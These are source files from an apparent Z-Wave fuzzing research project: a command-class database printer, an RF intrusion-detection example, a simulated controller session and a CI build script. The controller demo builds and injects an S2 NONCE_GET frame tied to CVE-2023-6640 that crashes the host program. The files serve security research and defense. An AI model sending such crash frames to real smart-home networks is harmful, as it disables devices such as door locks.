                                                                         : "supporting");
      for (const auto& param : command.params) {
        std::printf("        %-26s %-8s [0x%02X..0x%02X]\n",
                    std::string(param.name).c_str(), zwave::param_type_name(param.type),
                    param.min, param.max);
      }
    }
    return 0;
  }

  std::printf("=== Z-Wave specification database ===\n");
  std::printf("public classes : %zu  (+%zu proprietary)\n", db.public_spec_count(),
              db.all().size() - db.public_spec_count());

  std::map<zwave::CcCluster, std::size_t> by_cluster;
  std::size_t total_commands = 0;
  for (const auto& spec : db.all()) {
    ++by_cluster[spec.cluster];
    total_commands += spec.commands.size();
  }
  std::printf("total commands : %zu\n\nclusters:\n", total_commands);
  for (const auto& [cluster, count] : by_cluster) {
    std::printf("  %-26s %zu classes\n", zwave::cc_cluster_name(cluster), count);
  }

  const auto cluster = db.controller_cluster(true);
  std::printf("\ncontroller-relevance cluster: %zu classes\n", cluster.size());

  // Worked inference for the Aeotec profile.
  const auto& listed = sim::controller_profile(sim::DeviceModel::kD4_AeotecZw090).listed;
  const auto candidates = core::UnknownPropertyExtractor::cluster_spec_candidates(listed);
  std::printf("\nexample (Aeotec ZW090-A, NIF lists %zu classes):\n", listed.size());
  std::printf("  spec-derived unlisted candidates: %zu\n", candidates.size());

  auto queue = cluster;
  queue = core::UnknownPropertyExtractor::prioritize(queue, listed);
  std::printf("\nprioritized fuzz queue (command count desc):\n");
  for (std::size_t i = 0; i < queue.size(); ++i) {
    const auto* spec = db.find(queue[i]);
    std::printf("  %2zu. 0x%02X %-44s %2zu cmds%s\n", i + 1, queue[i],
                std::string(spec->name).c_str(), spec->commands.size(),
                spec->in_public_spec ? "" : "  [proprietary]");
  }
  return 0;
}
