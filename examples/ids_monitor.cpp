// Attack remediation (paper §V-B): a lightweight RF intrusion detection
// system watching the home while a ZCover campaign attacks it.
//
// The IDS sits on a promiscuous endpoint inside the house, whitelists the
// included nodes, and flags (a) controller-critical command classes
// traveling outside secure encapsulation, (b) ghost-node probes, (c) MAC
// protocol violations, (d) unknown sources. Benign S2/legacy traffic must
// stay quiet.
#include <cstdio>
#include <map>

#include "core/campaign.h"
#include "core/ids.h"
#include "radio/endpoint.h"

int main() {
  using namespace zc;

  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD1_ZoozZst10;
  testbed_config.slave_report_interval = 20 * kSecond;
  sim::Testbed testbed(testbed_config);

  // The IDS endpoint lives inside the house, close to the hub.
  radio::MacEndpoint sensor(testbed.medium(),
                            radio::RadioConfig{"ids-sensor", zwave::RfRegion::kUs908,
                                               1.0, 1.0, 0.0});
  core::IdsConfig ids_config;
  ids_config.roster = {0x01, sim::Testbed::kLockNodeId, sim::Testbed::kSwitchNodeId};
  core::IntrusionDetector ids(ids_config);
  sensor.set_frame_handler([&](const zwave::MacFrame& frame, double) {
    ids.inspect(frame, testbed.scheduler().now());
  });

  std::printf("=== lightweight IDS vs a ZCover campaign (paper SV-B) ===\n\n");

  // Quiet baseline: one hour of benign home traffic.
  testbed.scheduler().run_for(1 * kHour);
  const std::size_t baseline_frames = ids.frames_inspected();
  const std::size_t baseline_alerts = ids.alerts().size();
  std::printf("benign hour : %zu frames inspected, %zu alerts (false-positive rate %.4f)\n\n",
              baseline_frames, baseline_alerts,
              baseline_frames ? static_cast<double>(baseline_alerts) /
                                    static_cast<double>(baseline_frames)
                              : 0.0);

  // Now the attacker shows up.
  core::CampaignConfig config;
  config.mode = core::CampaignMode::kFull;
  config.duration = 1 * kHour;
  config.loop_queue = false;
  core::Campaign campaign(testbed, config);
  const auto result = campaign.run();

  std::printf("attack hour : campaign sent %llu packets, found %zu unique bugs\n",
              static_cast<unsigned long long>(result.test_packets), result.findings.size());
  std::printf("IDS         : %zu frames inspected, %zu alerts\n\n", ids.frames_inspected(),
              ids.alerts().size() - baseline_alerts);

  std::map<core::AlertKind, std::size_t> by_kind;
  for (std::size_t i = baseline_alerts; i < ids.alerts().size(); ++i) {
    ++by_kind[ids.alerts()[i].kind];
  }
  for (const auto& [kind, count] : by_kind) {
    std::printf("  %-24s %zu\n", core::alert_kind_name(kind), count);
  }

  // Would the IDS have warned before each confirmed finding? Compare the
  // first alert time against each finding time.
  if (!ids.alerts().empty()) {
    const SimTime first_attack_alert =
        ids.alerts().size() > baseline_alerts ? ids.alerts()[baseline_alerts].at : 0;
    std::size_t warned = 0;
    for (const auto& finding : result.findings) {
      if (first_attack_alert <= finding.detected_at) ++warned;
    }
    std::printf("\nalarm preceded %zu/%zu confirmed findings\n", warned,
                result.findings.size());
  }
  return 0;
}
