// A miniature "Z-Wave PC Controller" session: drives a USB-stick
// controller through the Serial API the way the real Windows tool does
// (the program that bugs #06 and #13 crash).
//
// Shows the host-to-chip half of the serial substrate: node interrogation,
// SEND_DATA to actuate the smart switch, and what the operator sees when
// an attacker then fires bug #06 over RF.
#include <cstdio>

#include "radio/endpoint.h"
#include "sim/testbed.h"

namespace {

zc::sim::SerialFrame request(zc::sim::SerialFunc func, zc::Bytes data) {
  zc::sim::SerialFrame frame;
  frame.type = zc::sim::SerialType::kRequest;
  frame.func = static_cast<std::uint8_t>(func);
  frame.data = std::move(data);
  return frame;
}

}  // namespace

int main() {
  using namespace zc;

  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD2_SilabsUzb7;  // a USB stick
  sim::Testbed testbed(config);
  auto& controller = testbed.controller();
  testbed.scheduler().run_for(1 * kSecond);

  std::printf("=== Z-Wave PC Controller (model) — %s ===\n\n",
              sim::device_model_name(controller.model()));

  // Node interrogation via GET_NODE_PROTOCOL_INFO.
  std::printf("node list (via Serial API):\n");
  for (zwave::NodeId node : controller.node_table().node_ids()) {
    const auto response = controller.handle_host_request(
        request(sim::SerialFunc::kGetNodeProtocolInfo, {node}));
    if (response.data.size() == 4 && response.data[0] == 0x01) {
      std::printf("  node %-3u listening=%d security=%s type=%s\n", node,
                  (response.data[1] & 0x80) != 0,
                  zwave::security_level_name(
                      static_cast<zwave::SecurityLevel>(response.data[2])),
                  zwave::basic_class_name(response.data[3]));
    }
  }

  // Actuate the switch: SEND_DATA carrying SWITCH_BINARY SET 0xFF.
  std::printf("\n[host] SEND_DATA -> node %u: SWITCH_BINARY SET on\n",
              sim::Testbed::kSwitchNodeId);
  const auto send_response = controller.handle_host_request(request(
      sim::SerialFunc::kSendData,
      {sim::Testbed::kSwitchNodeId, 3, 0x25, 0x01, 0xFF}));
  std::printf("[chip] response: %s\n",
              !send_response.data.empty() && send_response.data[0] == 0x01 ? "accepted"
                                                                           : "refused");
  testbed.scheduler().run_for(200 * kMillisecond);
  std::printf("[home] switch is now: %s\n\n",
              testbed.smart_switch()->on() ? "ON" : "off");

  // The attack: bug #06 arrives over RF; the program dies, the chip lives.
  std::printf("[attacker] injecting S2 NONCE_GET (bug #06, CVE-2023-6640)...\n");
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload nonce_get;
  nonce_get.cmd_class = 0x9F;
  nonce_get.command = 0x01;
  nonce_get.params = {0x00};
  attacker.send(zwave::make_singlecast(controller.home_id(), 0xE7, 0x01, nonce_get, 1, true));
  testbed.scheduler().run_for(200 * kMillisecond);

  std::printf("[operator] program state: %s (chip still responsive: %s)\n",
              controller.host().responsive() ? "running" : "CRASHED",
              controller.responsive() ? "yes" : "no");
  std::printf("[operator] restarting the program restores control:\n");
  controller.host().restart();
  const auto after = controller.handle_host_request(
      request(sim::SerialFunc::kGetNodeProtocolInfo, {sim::Testbed::kLockNodeId}));
  std::printf("           node %u query after restart: %s\n", sim::Testbed::kLockNodeId,
              !after.data.empty() && after.data[0] == 0x01 ? "ok" : "failed");
  return 0;
}
