#!/bin/sh
# CI driver: one lane per argument, every lane usable locally.
#
#   scripts/ci.sh tier1      # Release build + full functional suite
#   scripts/ci.sh perf       # perf smoke: bench gates vs committed baselines
#   scripts/ci.sh asan       # AddressSanitizer build + full suite
#   scripts/ci.sh tsan       # ThreadSanitizer build + concurrent suites
#   scripts/ci.sh robust     # crash/hang + journal recovery under ASan & TSan
#   scripts/ci.sh all        # every lane above, in that order
#
# Lanes build into their own directories (build-ci, build-ci-perf,
# build-asan, build-tsan) so they never poison each other's caches. The
# perf lane compares against the committed Release baselines, so it must
# run a Release build on an otherwise quiet machine — results from a
# loaded box or a debug build are refused by check_regression.py.
set -eu

root=$(CDPATH= cd -- "$(dirname -- "$0")/.." && pwd)
jobs=$(nproc 2>/dev/null || sysctl -n hw.ncpu 2>/dev/null || echo 2)

build() {
  # $1 = build dir, rest = extra cmake args
  dir=$1
  shift
  cmake -B "$root/$dir" -S "$root" "$@" >/dev/null
  cmake --build "$root/$dir" -j "$jobs"
}

lane_tier1() {
  build build-ci -DCMAKE_BUILD_TYPE=Release
  ctest --test-dir "$root/build-ci" --output-on-failure -j "$jobs"
  # Coverage-guided suite called out by label: merge determinism, PSM
  # parity, corpus round-trip. Cheap, and a named lane step makes a
  # covfuzz regression obvious in the CI log.
  ctest --test-dir "$root/build-ci" --output-on-failure -j "$jobs" -L covfuzz
  # Executor suite called out by label: work-stealing pool contracts,
  # sharded determinism under steal-heavy skew, and the Testbed::reset
  # byte-identity fence the worker-context reuse depends on.
  ctest --test-dir "$root/build-ci" --output-on-failure -j "$jobs" -L executor
  # Campaign-service suite called out by label: the strict wire codec, the
  # job control plane's pause/resume byte-identity, cooperative shutdown
  # recovery, and the loopback TCP end-to-end path (binds 127.0.0.1:0, so
  # it needs no network privileges).
  ctest --test-dir "$root/build-ci" --output-on-failure -j "$jobs" -L svc
  # Equivalence suite again with every fast path forced off: the scalar
  # reference kernels and portable AES must stand on their own, because
  # they are what non-x86 hosts (and ZC_DISABLE_* escape hatches) run.
  ZC_DISABLE_SIMD=1 ZC_DISABLE_AESNI=1 \
    ctest --test-dir "$root/build-ci" --output-on-failure -j "$jobs" -L simd
}

lane_perf() {
  # A debug google-benchmark library taints the timing provenance
  # (check_regression.py warns on it); build the library in-tree, Release,
  # when a source checkout is available.
  bench_src=${ZC_BENCHMARK_SRC:-/usr/src/benchmark}
  if [ -f "$bench_src/CMakeLists.txt" ]; then
    build build-ci-perf -DCMAKE_BUILD_TYPE=Release -DZC_ENABLE_PERF_TESTS=ON \
      -DZC_BENCHMARK_SOURCE_DIR="$bench_src"
  else
    build build-ci-perf -DCMAKE_BUILD_TYPE=Release -DZC_ENABLE_PERF_TESTS=ON
  fi
  # Serial on purpose: the bench gates measure wall time.
  ctest --test-dir "$root/build-ci-perf" --output-on-failure -L perf
}

lane_asan() {
  # Pooled-buffer lifetime bugs (use-after-return-to-pool, leaked leases)
  # are exactly what ASan exists for; run the whole functional suite under
  # it. bench_pool_alloc self-disables here — ASan owns operator new.
  build build-asan -DCMAKE_BUILD_TYPE=RelWithDebInfo -DZC_SANITIZE=address
  ctest --test-dir "$root/build-asan" --output-on-failure -j "$jobs"
  # The covfuzz suite exercises corpus file I/O and journal flag records —
  # exactly the buffer-handling paths ASan should sweep by name.
  ctest --test-dir "$root/build-asan" --output-on-failure -j "$jobs" -L covfuzz
  # The executor suite recycles testbeds/mediums across shards on
  # persistent workers — reuse-after-reset lifetime bugs are ASan's beat.
  ctest --test-dir "$root/build-asan" --output-on-failure -j "$jobs" -L executor
  # The svc suite pushes request bytes through a real socket pair and
  # parks/restores checkpoint state across manager teardowns — socket
  # buffers, event-history strings and recovered-job copies are the
  # lifetimes ASan should sweep here.
  ctest --test-dir "$root/build-asan" --output-on-failure -j "$jobs" -L svc
  # SIMD kernels read through raw pointers; prove both dispatch modes clean.
  ZC_DISABLE_SIMD=1 ZC_DISABLE_AESNI=1 \
    ctest --test-dir "$root/build-asan" --output-on-failure -j "$jobs" -L simd
}

lane_tsan() {
  build build-tsan -DCMAKE_BUILD_TYPE=RelWithDebInfo -DZC_SANITIZE=thread
  # The multi-threaded surfaces carry dedicated labels (see
  # docs/performance.md and docs/observability.md). covfuzz joins them:
  # its merge-determinism tests run shard pools whose thread-local coverage
  # maps TSan must prove isolated. The executor suite is the core
  # concurrency surface now: deque hand-offs, steal-backs, the done/
  # on_complete publication edge, and the ordered journal-commit queue.
  # The simd suite rides along in both dispatch modes: cpu-feature/env
  # caches are cross-thread reads under sharded campaigns, so TSan vets
  # their init. svc layers acceptor/connection threads, the JobManager
  # control thread and executor on_complete callbacks over one mutex —
  # prime TSan territory.
  ctest --test-dir "$root/build-tsan" --output-on-failure -L "parallel|obs|covfuzz|executor|svc"
  ctest --test-dir "$root/build-tsan" --output-on-failure -L simd
  ZC_DISABLE_SIMD=1 ZC_DISABLE_AESNI=1 \
    ctest --test-dir "$root/build-tsan" --output-on-failure -L simd
}

lane_robust() {
  # The fault-domain suite (shard crash/hang injection, restart,
  # quarantine) and the journal torn-write recovery sweep, under both
  # sanitizers: ASan catches lifetime bugs on the unwind/restart path,
  # TSan proves the watchdog/token handshake is race-free. Reuses the
  # asan/tsan build trees so `robust` after `all` costs only test time.
  build build-asan -DCMAKE_BUILD_TYPE=RelWithDebInfo -DZC_SANITIZE=address
  ctest --test-dir "$root/build-asan" --output-on-failure -L robust
  build build-tsan -DCMAKE_BUILD_TYPE=RelWithDebInfo -DZC_SANITIZE=thread
  ctest --test-dir "$root/build-tsan" --output-on-failure -L robust
}

[ $# -gt 0 ] || { echo "usage: $0 tier1|perf|asan|tsan|robust|all ..." >&2; exit 2; }
for lane in "$@"; do
  case $lane in
    tier1) lane_tier1 ;;
    perf) lane_perf ;;
    asan) lane_asan ;;
    tsan) lane_tsan ;;
    robust) lane_robust ;;
    all) lane_tier1; lane_perf; lane_asan; lane_tsan; lane_robust ;;
    *) echo "unknown lane: $lane" >&2; exit 2 ;;
  esac
done
